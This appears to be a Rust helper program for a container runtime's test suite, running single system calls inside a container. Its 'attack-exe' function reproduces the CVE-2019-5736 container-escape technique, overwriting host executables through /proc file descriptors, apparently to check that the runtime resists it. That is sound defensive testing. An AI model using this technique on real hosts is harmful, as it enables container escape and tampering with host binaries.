//! What the test program does inside a container (`/bin/inside inside WORD…`):
//! single system calls that busybox has no applet for.

use std::io;
use std::process::ExitCode;

/// Does what the words say and prints the answer.
pub fn main(words: &[String]) -> ExitCode {
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    let answer = match words[..] {
        // SAFETY: geteuid cannot fail.
        ["euid"] => Ok(i64::from(unsafe { libc::geteuid() })),
        // SAFETY: both take integers.
        ["scheduler"] => Ok(i64::from(unsafe { libc::sched_getscheduler(0) })),
        // SAFETY: as above.
        ["nice"] => Ok(i64::from(unsafe { libc::getpriority(libc::PRIO_PROCESS, 0) })),
        ["syscall", number, ref arguments @ ..] => {
            let mut all = [0i64; 6];
            for (to, from) in all.iter_mut().zip(arguments) {
                *to = from.parse().unwrap_or(-1);
            }
            syscall(number.parse().unwrap_or(-1), all)
        }
        ["open-for-writing", path] => std::fs::File::options().write(true).open(path).map(|_| 0),
        ["allocate", mebibytes] => {
            // Bit by bit: one large piece is refused where memory is small.
            let mut all = Vec::new();
            for _ in 0..mebibytes.parse::<usize>().unwrap_or(0) {
                let mut piece = vec![0u8; 1 << 20];
                piece.iter_mut().step_by(4096).for_each(|byte| *byte = 1);
                all.push(piece);
            }
            Ok(all.iter().map(|piece| i64::from(piece[4096])).sum())
        }
        ["notify", message] => notify(&message.replace("\\n", "\n")),
        ["keep-telling", path] => keep_telling(path),
        ["lock", path, seconds] => lock(path, seconds.parse().unwrap_or(0)),
        ["attack-exe", seconds] => attack(seconds.parse().unwrap_or(1)),
        _ => {
            eprintln!("inside: unknown words {words:?}");
            return ExitCode::from(2);
        }
    };
    match answer {
        Ok(number) => {
            println!("{number}");
            ExitCode::SUCCESS
        }
        Err(error) => {
            println!("error {}", error.raw_os_error().unwrap_or(0));
            ExitCode::from(1)
        }
    }
}

/// Holds every executable seen in /proc that is not of this root, and tries to
/// write to it once it does not run any more (the way of CVE-2019-5736).
fn attack(seconds: u64) -> io::Result<i64> {
    use std::io::Write;
    use std::os::fd::AsRawFd;
    let end = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    let mut held: Vec<std::fs::File> = Vec::new();
    let mut written = 0;
    println!("attacking");
    while std::time::Instant::now() < end {
        for entry in std::fs::read_dir("/proc")?.flatten() {
            let exe = entry.path().join("exe");
            let Ok(file) = std::fs::File::open(&exe) else { continue };
            // Asked of what was opened: the process may have become another one.
            let name = std::fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd()));
            if name.is_ok_and(|name| !name.starts_with("/bin")) && held.len() < 200 {
                held.push(file);
            }
        }
        for file in &held {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            if let Ok(mut opened) = std::fs::File::options().write(true).open(path) {
                written += i64::from(opened.write_all(b"#!/bin/sh\n").is_ok());
            }
        }
        if held.len() > 100 {
            held.drain(..50);
        }
    }
    Ok(written)
}

/// Tells the service manager (sd_notify(3)).
fn notify(message: &str) -> io::Result<i64> {
    let path = std::env::var_os("NOTIFY_SOCKET").ok_or(io::ErrorKind::NotFound)?;
    let socket = std::os::unix::net::UnixDatagram::unbound()?;
    socket.send_to(message.as_bytes(), path).map(|length| length as i64)
}

/// Stays connected to a socket and says a word again and again.
fn keep_telling(path: &str) -> io::Result<i64> {
    let socket = std::os::unix::net::UnixDatagram::unbound()?;
    socket.connect(path)?;
    loop {
        socket.send(b"here")?;
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

/// Locks a file, unless another holds it, and keeps it for some time (flock(2)).
fn lock(path: &str, seconds: u64) -> io::Result<i64> {
    use std::os::fd::AsRawFd;
    let file = std::fs::File::options().create(true).append(true).open(path)?;
    // SAFETY: flock takes two integers.
    if unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) } != 0 {
        return Err(io::Error::last_os_error());
    }
    std::thread::sleep(std::time::Duration::from_secs(seconds));
    Ok(0)
}

fn syscall(number: i64, all: [i64; 6]) -> io::Result<i64> {
    // SAFETY: the behaviours pass integers that are no addresses, or null.
    let result = unsafe { libc::syscall(number, all[0], all[1], all[2], all[3], all[4], all[5]) };
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
}
